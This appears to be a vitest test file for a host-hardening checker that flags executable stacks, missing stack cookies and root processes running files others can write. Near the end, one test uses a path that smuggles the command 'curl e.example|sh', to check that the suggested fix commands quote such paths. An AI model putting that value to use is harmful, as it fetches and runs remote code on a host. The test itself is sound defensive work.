/**
 * runtime-behavior-analysis, the file rules: software without DEP, software without stack cookies and root
 * processes running files others can change, on documents built through the real telemetry schema.
 */
import { describe, expect, it } from 'vitest';
import { RuntimeBuilder, rbaResult } from '../../helpers/runtime-telemetry';

const DEP = 'rba.software-without-dep';
const COOKIES = 'rba.software-without-stack-cookies';
const ROOT = 'rba.root-process-insecure-permissions';

const LIBC = { package: { manager: 'dpkg' as const, name: 'libc6', version: '2.36-9+deb12u9' } };

/** sshd (root) and a user's app, both hardened and root-owned, directories recorded root-owned 0755. */
function cleanHost(): RuntimeBuilder {
  const b = new RuntimeBuilder();
  const libc = b.object('/usr/lib/x86_64-linux-gnu/libc.so.6', {
    ...LIBC,
    elf: { interp: true, symbols: { ...symbols(), stackChkFail: 'defined' } },
  });
  const ld = b.object('/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2', {
    ...LIBC,
    elf: {
      interp: false,
      dynamic: { ...dyn(), soname: 'ld-linux-x86-64.so.2', needed: [] },
      symbols: { ...symbols(), stackChkFail: 'absent' },
    },
  });
  const sshd = b.object('/usr/sbin/sshd', {
    package: { manager: 'dpkg', name: 'openssh-server', version: '1:9.2p1-2+deb12u5' },
  });
  b.process({ pid: 500, comm: 'sshd', exe: '/usr/sbin/sshd', exeObject: sshd, maps: [libc, ld] });
  const app = b.object('/opt/app/bin/app');
  b.process({ pid: 900, comm: 'app', uid: 1000, exe: '/opt/app/bin/app', exeObject: app, maps: [libc, ld] });
  b.rootOwnedDirectories();
  return b;
}

function symbols() {
  return {
    source: 'section-headers' as const,
    count: 200,
    stackChkFail: 'referenced' as const,
    stackChkGuard: 'absent' as const,
    fortifiedReferencedCount: 0,
    fortifiedReferenced: [],
    fortifiedDefinedCount: 0,
  };
}
function dyn() {
  return {
    bindNowTag: false,
    flagsBindNow: false,
    flags1Now: false,
    bindNow: false,
    flags1Pie: false,
    debug: false,
    textrel: false,
    needed: ['libc.so.6'],
  };
}

describe(DEP, () => {
  it('passes when every running file has PT_GNU_STACK without PF_X', async () => {
    const r = await rbaResult(DEP, cleanHost().build());
    expect(r.result).toBe('PASS');
    expect(r.severity).toBe('Medium');
    expect(r.message).toMatch(/all 4 running executables and libraries judged have a non-executable stack/);
  });

  it('fails on an executable stack (RWE) and on a missing PT_GNU_STACK, package-owned files too', async () => {
    const b = cleanHost();
    const lib = b.object('/opt/app/lib/libold.so', {
      elf: { interp: false, gnuStack: { present: true, flags: 7, executable: true } },
    });
    const legacy = b.object('/usr/lib/legacy/libasm.so.1', {
      elf: { interp: false, gnuStack: { present: false } },
      package: { manager: 'dpkg', name: 'libasm-legacy', version: '1.0-1' },
    });
    b.process({ pid: 901, comm: 'app2', uid: 1000, exe: '/opt/app/bin/app', maps: [lib, legacy] });
    const r = await rbaResult(DEP, b.build());
    expect(r.result).toBe('FAIL');
    expect(r.evidence.slice(0, 2)).toEqual([
      {
        source: '/opt/app/lib/libold.so',
        key: 'PT_GNU_STACK',
        value: 'executable (RWE, flags 0x7)',
        expected: 'present and not executable (RW-)',
        note: 'ET_DYN x86-64; no owning package recorded; run or mapped by app2 pid 901 uid 1000',
      },
      {
        source: '/usr/lib/legacy/libasm.so.1',
        key: 'PT_GNU_STACK',
        value: 'absent (executable stack)',
        expected: 'present and not executable (RW-)',
        note: 'ET_DYN x86-64; package libasm-legacy 1.0-1 (dpkg); run or mapped by app2 pid 901 uid 1000',
      },
    ]);
    expect(r.message).toMatch(/^2 running files of 6 judged have an executable stack/);
    expect(r.recommendation).toMatch(/rebuild \/opt\/app\/lib\/libold.so with -Wl,-z,noexecstack/);
    expect(r.recommendation).toMatch(/update libasm-legacy 1.0-1 \(dpkg\)/);
  });

  it('on AArch64 a missing PT_GNU_STACK is a non-executable stack (kernel and glibc defaults), PF_X is not', async () => {
    const b = cleanHost();
    const arm = { machine: 183, machineName: 'AArch64' };
    const noHeader = b.object('/opt/arm/lib/libnohdr.so', {
      elf: { interp: false, ...arm, gnuStack: { present: false } },
    });
    const rwe = b.object('/opt/arm/lib/librwe.so', {
      elf: { interp: false, ...arm, gnuStack: { present: true, flags: 7, executable: true } },
    });
    b.process({ pid: 903, comm: 'armapp', uid: 1000, exe: '/opt/app/bin/app', maps: [noHeader] });
    const r = await rbaResult(DEP, b.build());
    expect(r.result).toBe('PASS');
    expect(r.evidence).toContainEqual(
      expect.objectContaining({ key: 'PT_GNU_STACK absent on AArch64', value: '1 object' }),
    );
    b.process({ pid: 904, comm: 'armapp2', uid: 1000, exe: '/opt/app/bin/app', maps: [rwe] });
    const f = await rbaResult(DEP, b.build());
    expect(f.result).toBe('FAIL');
    expect(f.evidence.map((e) => e.source)).toContain('/opt/arm/lib/librwe.so');
    expect(f.evidence.map((e) => e.source)).not.toContain('/opt/arm/lib/libnohdr.so');
  });

  it('does not judge unreadable ELF facts, counts them, and is ERROR when none could be judged', async () => {
    const b = cleanHost();
    const gone = b.object('/opt/app/bin/tool', {
      elf: { ok: false, reason: 'permission-denied', detail: 'EACCES', bytesRead: 0 },
    });
    b.process({ pid: 902, comm: 'tool', exe: '/opt/app/bin/tool', exeObject: gone });
    const r = await rbaResult(DEP, b.build());
    expect(r.result).toBe('PASS');
    expect(r.message).toMatch(/\(1 not judged: ELF facts unreadable\)/);
    expect(r.evidence).toContainEqual({
      source: 'runtime',
      key: 'objects not judged',
      value: '1 object',
      note: 'ELF facts not read: permission-denied',
    });

    const only = new RuntimeBuilder();
    const o = only.object('/opt/x', {
      elf: { ok: false, reason: 'truncated', detail: 'short', bytesRead: 10 },
    });
    only.process({ pid: 10, comm: 'x', exe: '/opt/x', exeObject: o });
    const e = await rbaResult(DEP, only.build());
    expect(e.result).toBe('ERROR');
    expect(e.message).toMatch(/none of the 1 running file could be read/);
  });

  it('is ERROR when no process had a readable executable (agent not running as root)', async () => {
    const b = new RuntimeBuilder();
    b.process({ pid: 1, comm: 'systemd', exe: undefined });
    const r = await rbaResult(DEP, b.build());
    expect(r.result).toBe('ERROR');
    expect(r.message).toMatch(/no executable or mapped file was recorded/);
  });
});

describe(COOKIES, () => {
  it('passes when the third-party files have stack cookies (package files out of scope)', async () => {
    const r = await rbaResult(COOKIES, cleanHost().build());
    expect(r.result).toBe('PASS');
    expect(r.message).toBe('all 1 file judged (running files no package owns) have stack cookies.');
    expect(r.evidence[0]).toEqual({
      source: 'runtime',
      key: 'scope',
      value: 'third-party',
      note: 'judged: running files no package owns; 3 package-owned files out of scope',
    });
  });

  it('fails on a third-party file without __stack_chk_fail or __stack_chk_guard', async () => {
    const b = cleanHost();
    const lib = b.object('/opt/app/lib/libfast.so', {
      elf: { interp: false, symbols: { ...symbols(), count: 42, stackChkFail: 'absent' } },
    });
    b.process({ pid: 903, comm: 'app3', uid: 1000, exe: '/opt/app/bin/app', maps: [lib] });
    const r = await rbaResult(COOKIES, b.build());
    expect(r.result).toBe('FAIL');
    expect(r.evidence[0]).toEqual({
      source: '/opt/app/lib/libfast.so',
      key: '__stack_chk_fail',
      value: 'absent (42 dynamic symbols, none of __stack_chk_fail / __stack_chk_guard)',
      expected: 'referenced or defined',
      note: 'ET_DYN x86-64; no owning package recorded; run or mapped by app3 pid 903 uid 1000',
    });
    expect(r.recommendation).toMatch(/rebuild \/opt\/app\/lib\/libfast.so with -fstack-protector-strong/);
  });

  it('counts __stack_chk_guard alone as stack cookies (as checksec does)', async () => {
    const b = cleanHost();
    const lib = b.object('/opt/app/lib/libguard.so', {
      elf: { interp: false, symbols: { ...symbols(), stackChkFail: 'absent', stackChkGuard: 'referenced' } },
    });
    b.process({ pid: 904, comm: 'app4', exe: '/opt/app/bin/app', maps: [lib] });
    expect((await rbaResult(COOKIES, b.build())).result).toBe('PASS');
  });

  it('cannot tell for static, static-pie and unread symbol tables; ERROR when nothing could be judged', async () => {
    const b = new RuntimeBuilder();
    const st = b.object('/opt/static', {
      elf: {
        staticallyLinked: true,
        interp: false,
        symbols: { ...symbols(), source: 'none', count: 0, stackChkFail: 'absent' },
      },
    });
    const spie = b.object('/opt/static-pie', {
      elf: {
        interp: false,
        dynamic: { ...dyn(), flags1Pie: true, needed: [] },
        symbols: { ...symbols(), stackChkFail: 'absent' },
      },
    });
    const big = b.object('/opt/node', {
      elf: {
        symbols: {
          ...symbols(),
          source: 'none',
          count: 0,
          stackChkFail: 'absent',
          unread: 'over the byte budget',
        },
      },
    });
    b.process({ pid: 20, comm: 'static', exe: '/opt/static', exeObject: st });
    b.process({ pid: 21, comm: 'static-pie', exe: '/opt/static-pie', exeObject: spie });
    b.process({ pid: 22, comm: 'node', exe: '/opt/node', exeObject: big });
    const r = await rbaResult(COOKIES, b.build());
    expect(r.result).toBe('ERROR');
    expect(r.evidence.filter((e) => e.key === 'cannot tell')).toEqual([
      { source: 'runtime', key: 'cannot tell', value: '1 object', note: 'dynamic symbol table not read' },
      { source: 'runtime', key: 'cannot tell', value: '1 object', note: 'static-pie' },
      { source: 'runtime', key: 'cannot tell', value: '1 object', note: 'statically linked' },
    ]);
  });

  it('is NOT_APPLICABLE when every running file is package-owned', async () => {
    const b = new RuntimeBuilder();
    const o = b.object('/usr/sbin/cron', {
      package: { manager: 'dpkg', name: 'cron', version: '3.0pl1-162' },
    });
    b.process({ pid: 30, comm: 'cron', exe: '/usr/sbin/cron', exeObject: o });
    const r = await rbaResult(COOKIES, b.build());
    expect(r.result).toBe('NOT_APPLICABLE');
    expect(r.message).toMatch(/all 1 are package-owned/);
  });

  it('scope all judges package files (the dynamic loader is skipped and counted)', async () => {
    const b = cleanHost();
    const stub = b.object('/usr/lib/x86_64-linux-gnu/libdl.so.2', {
      ...LIBC,
      elf: { interp: false, symbols: { ...symbols(), count: 5, stackChkFail: 'absent' } },
    });
    b.process({ pid: 905, comm: 'legacy', exe: '/opt/app/bin/app', maps: [stub] });
    expect((await rbaResult(COOKIES, b.build())).result).toBe('PASS');
    const r = await rbaResult(COOKIES, b.build(), { [COOKIES]: { scope: 'all' } });
    expect(r.result).toBe('FAIL');
    expect(r.evidence.map((e) => e.source)).toContain('/usr/lib/x86_64-linux-gnu/libdl.so.2');
    expect(r.evidence).toContainEqual(
      expect.objectContaining({ key: 'dynamic loader not judged', value: '1 object' }),
    );
    expect(r.recommendation).toMatch(/update libc6 2.36-9\+deb12u9 \(dpkg\)/);
  });

  it('judges every file when ownership was not looked up, and says so', async () => {
    const b = cleanHost();
    b.packageOwners = undefined;
    const r = await rbaResult(COOKIES, b.build());
    expect(r.result).toBe('PASS');
    expect(r.message).toMatch(/all running files \(the agent did not look up owning packages/);
  });

  it('is ERROR for an unknown scope', async () => {
    const r = await rbaResult(COOKIES, cleanHost().build(), { [COOKIES]: { scope: 'mine' } });
    expect(r.result).toBe('ERROR');
    expect(r.message).toMatch(/scope must be "third-party" or "all"/);
  });
});

describe(ROOT, () => {
  it('passes when the files of root processes and the directories above them are root-owned 0755', async () => {
    const r = await rbaResult(ROOT, cleanHost().build());
    expect(r.result).toBe('PASS');
    expect(r.severity).toBe('High');
    expect(r.message).toBe(
      'the 3 files run by 1 root process and the directories above them are not writable by non-root users.',
    );
  });

  it('fails on a root executable owned by uid 1000 and world-writable, with the fix', async () => {
    const b = cleanHost();
    const srv = b.object('/opt/app/bin/server', { stat: { mode: 0o100777, uid: 1000, gid: 1000 } });
    b.process({ pid: 950, comm: 'server', exe: '/opt/app/bin/server', exeObject: srv });
    const r = await rbaResult(ROOT, b.build());
    expect(r.result).toBe('FAIL');
    expect(r.evidence[0]).toEqual({
      source: '/opt/app/bin/server',
      key: 'executable',
      value: '0777 uid 1000 gid 1000',
      expected: 'owner uid 0; not writable by group or others',
      note: 'non-root write access: owned by uid 1000, writable by group gid 1000, writable by others; run or mapped by server pid 950 uid 0',
    });
    expect(r.recommendation).toMatch(
      /^Run: chown root \/opt\/app\/bin\/server && chmod g-w \/opt\/app\/bin\/server && chmod o-w \/opt\/app\/bin\/server\./,
    );
  });

  it('fails on a group-writable file or directory of group 0: non-root members, or an ACL whose mask it is', async () => {
    // `setfacl -m u:bob:rwx` on a root:root 0755 file leaves 0775: the group bits are the ACL mask.
    const b = cleanHost();
    const srv = b.object('/opt/app/bin/server', { stat: { mode: 0o100775, uid: 0, gid: 0 } });
    b.process({ pid: 950, comm: 'server', exe: '/opt/app/bin/server', exeObject: srv });
    b.rootOwnedDirectories();
    const r = await rbaResult(ROOT, b.build());
    expect(r.result).toBe('FAIL');
    expect(r.evidence[0]).toMatchObject({ source: '/opt/app/bin/server', value: '0775 uid 0 gid 0' });
    expect(r.evidence[0]!.note).toMatch(
      /^non-root write access: writable by group gid 0 \(its non-root members, or users an ACL names/,
    );
    expect(r.recommendation).toMatch(/^Run: chmod g-w \/opt\/app\/bin\/server\./);

    const d = cleanHost();
    d.dir('/usr/sbin', 0o40775);
    const rd = await rbaResult(ROOT, d.build());
    expect(rd.result).toBe('FAIL');
    expect(rd.evidence[0]).toMatchObject({
      source: '/usr/sbin',
      key: 'directory',
      value: '0775 uid 0 gid 0',
    });
  });

  it('fails on a mapped library writable by a non-root group, naming the package and its verify command', async () => {
    const b = cleanHost();
    const lib = b.object('/usr/lib/libplug.so', {
      stat: { mode: 0o100664, uid: 0, gid: 50 },
      package: { manager: 'rpm', name: 'plug', version: '1.2-3.el9' },
    });
    b.process({ pid: 951, comm: 'crond', euid: 0, uid: 0, exe: '/usr/sbin/sshd', maps: [lib] });
    b.rootOwnedDirectories();
    const r = await rbaResult(ROOT, b.build());
    expect(r.result).toBe('FAIL');
    expect(r.evidence[0]).toMatchObject({
      source: '/usr/lib/libplug.so',
      key: 'mapped file',
      value: '0664 uid 0 gid 50',
    });
    expect(r.evidence[0]!.note).toMatch(/writable by group gid 50; .*; package plug 1.2-3.el9 \(rpm\)$/);
    expect(r.recommendation).toMatch(/chmod g-w \/usr\/lib\/libplug.so/);
    expect(r.recommendation).toMatch(/rpm -V plug/);
  });

  it('judges a process that only has euid 0 (setuid), and ignores non-root processes', async () => {
    const b = cleanHost();
    const mine = b.object('/home/u/bin/tool', { stat: { mode: 0o100755, uid: 1000, gid: 1000 } });
    b.process({ pid: 960, comm: 'tool', uid: 1000, exe: '/home/u/bin/tool', exeObject: mine });
    b.rootOwnedDirectories();
    expect((await rbaResult(ROOT, b.build())).result).toBe('PASS');
    b.process({ pid: 961, comm: 'tool', uid: 1000, euid: 0, exe: '/home/u/bin/tool', exeObject: mine });
    const r = await rbaResult(ROOT, b.build());
    expect(r.result).toBe('FAIL');
    expect(r.evidence[0]!.note).toMatch(/run or mapped by tool pid 961 uid 1000 euid 0$/);
  });

  it('passes for a root-owned file in sticky /tmp (1777)', async () => {
    const b = cleanHost();
    const s = b.object('/tmp/job.sh', {
      elf: { ok: false, reason: 'not-elf', detail: 'no ELF magic', bytesRead: 4 },
    });
    const sh = b.object('/usr/bin/dash', { package: { manager: 'dpkg', name: 'dash', version: '0.5.12-2' } });
    b.process({
      pid: 970,
      comm: 'sh',
      exe: '/usr/bin/dash',
      exeObject: sh,
      script: '/tmp/job.sh',
      scriptObject: s,
    });
    b.rootOwnedDirectories();
    b.dir('/tmp', 0o41777);
    const r = await rbaResult(ROOT, b.build());
    expect(r.result).toBe('PASS');
  });

  it('fails on a script in a sticky directory owned by uid 1000', async () => {
    const b = cleanHost();
    const s = b.object('/srv/drop/job.sh', {
      elf: { ok: false, reason: 'not-elf', detail: 'no ELF magic', bytesRead: 4 },
    });
    b.process({ pid: 971, comm: 'sh', exe: '/usr/bin/dash', script: '/srv/drop/job.sh', scriptObject: s });
    b.rootOwnedDirectories();
    b.dir('/srv/drop', 0o41777, 1000, 1000);
    const r = await rbaResult(ROOT, b.build());
    expect(r.result).toBe('FAIL');
    expect(r.evidence[0]).toEqual({
      source: '/srv/drop',
      key: 'directory',
      value: '01777 uid 1000 gid 1000',
      expected: 'owner uid 0; not writable by group or others unless sticky (+t)',
      note:
        'non-root write access: owned by uid 1000 (sticky, but the owner may still replace anything in it); ' +
        'lets that user replace /srv/drop/job.sh; run or mapped by sh pid 971 uid 0',
    });
    expect(r.recommendation).toMatch(/chown root \/srv\/drop/);
  });

  it('fails on a world-writable directory without the sticky bit above a root executable', async () => {
    const b = cleanHost();
    b.dir('/opt/app/bin', 0o40777);
    const app = b.object('/opt/app/bin/app');
    b.process({ pid: 972, comm: 'app', exe: '/opt/app/bin/app', exeObject: app });
    const r = await rbaResult(ROOT, b.build());
    expect(r.result).toBe('FAIL');
    expect(r.evidence[0]).toMatchObject({
      source: '/opt/app/bin',
      key: 'directory',
      value: '0777 uid 0 gid 0',
    });
    expect(r.evidence[0]!.note).toMatch(
      /writable by others without the sticky bit; lets that user replace \/opt\/app\/bin\/app/,
    );
    expect(r.recommendation).toMatch(/chmod o-w \/opt\/app\/bin/);
  });

  it('judges files only when directories were not recorded, and says so', async () => {
    const b = cleanHost();
    b.directories = undefined;
    b.dir('/opt', 0o40777);
    b.directories = undefined;
    const r = await rbaResult(ROOT, b.build());
    expect(r.result).toBe('PASS');
    expect(r.message).toMatch(/Directories were not recorded by this agent: only the files were judged/);
    expect(r.evidence).toContainEqual(expect.objectContaining({ key: 'directories', value: 'not recorded' }));
  });

  it('counts directories missing from the record', async () => {
    const b = cleanHost();
    b.directories = b.directories!.filter((d) => d.path !== '/usr/sbin');
    const r = await rbaResult(ROOT, b.build());
    expect(r.result).toBe('PASS');
    // The message does not claim what was not judged.
    expect(r.message).toMatch(/\. 1 directory above them was not recorded and not judged\.$/);
    expect(r.evidence).toContainEqual(
      expect.objectContaining({ key: 'directories not recorded', value: '1' }),
    );
  });

  it('uses the ELF stat when the object has none, and is ERROR when no file of a root process has one', async () => {
    const b = new RuntimeBuilder();
    const o = b.object('/opt/a', { stat: null, elf: { file: { size: 1, mode: 0o100757, uid: 0, gid: 0 } } });
    b.process({ pid: 40, comm: 'a', exe: '/opt/a', exeObject: o });
    b.rootOwnedDirectories();
    const r = await rbaResult(ROOT, b.build());
    expect(r.result).toBe('FAIL');
    expect(r.evidence[0]).toMatchObject({ source: '/opt/a', value: '0757 uid 0 gid 0' });

    const none = new RuntimeBuilder();
    const n = none.object('/opt/b', {
      stat: null,
      elf: { ok: false, reason: 'permission-denied', detail: 'EACCES', bytesRead: 0 },
    });
    none.process({ pid: 41, comm: 'b', exe: '/opt/b', exeObject: n });
    none.process({ pid: 42, comm: 'c' });
    const e = await rbaResult(ROOT, none.build());
    expect(e.result).toBe('ERROR');
    expect(e.evidence).toContainEqual(
      expect.objectContaining({ key: 'files without owner and mode', value: '1' }),
    );
    expect(e.evidence).toContainEqual(
      expect.objectContaining({ key: 'root processes without a readable executable', value: '1' }),
    );
  });

  it('is NOT_APPLICABLE when no process ran as root', async () => {
    const b = new RuntimeBuilder();
    b.process({ pid: 50, comm: 'app', uid: 1000, exe: '/opt/app' });
    const r = await rbaResult(ROOT, b.build());
    expect(r.result).toBe('NOT_APPLICABLE');
  });
});

describe('recommendations built from host paths', () => {
  it('quote the paths of the commands they say to run (a file may be named to run a command when pasted)', async () => {
    const b = cleanHost();
    const evil = "/opt/app/bin/x$(curl e.example|sh)'q";
    const srv = b.object(evil, {
      stat: { mode: 0o100777, uid: 0, gid: 0 },
      elf: { gnuStack: { present: false } },
    });
    b.process({ pid: 950, comm: 'x', exe: evil, exeObject: srv });
    b.rootOwnedDirectories();
    const quoted = `'/opt/app/bin/x$(curl e.example|sh)'\\''q'`;
    const r = await rbaResult(ROOT, b.build());
    expect(r.result).toBe('FAIL');
    expect(r.recommendation).toContain(`&& chmod o-w ${quoted}.`);
    const dep = await rbaResult(DEP, b.build());
    expect(dep.recommendation).toContain(`patchelf --clear-execstack ${quoted})`);
  });

  it('report a root process file whose name is not UTF-8 (its owner and mode could not be read), not pass it', async () => {
    const b = cleanHost();
    // What the agent's decoding makes of /opt/\xff/run: no file of that name, no stat.
    const odd = b.object('/opt/\uFFFD/run', {
      stat: null,
      elf: { ok: false, reason: 'not-found', detail: 'ENOENT', bytesRead: 0 },
    });
    b.process({ pid: 951, comm: 'run', exe: '/opt/\uFFFD/run', exeObject: odd });
    b.rootOwnedDirectories();
    b.directories = b.directories!.filter((d) => !d.path.includes('\uFFFD'));
    const r = await rbaResult(ROOT, b.build());
    expect(r.result).toBe('FAIL');
    expect(r.evidence[0]).toMatchObject({
      source: '/opt/\uFFFD/run',
      key: 'executable',
      value: 'name not UTF-8: owner and mode not read',
    });
    expect(r.evidence.find((e) => e.source === '/opt/\uFFFD')).toMatchObject({
      key: 'directory',
      value: 'name not UTF-8: owner and mode not read',
    });
    expect(r.recommendation).toContain('ls -l --quoting-style=escape -- /opt/*');
  });
});
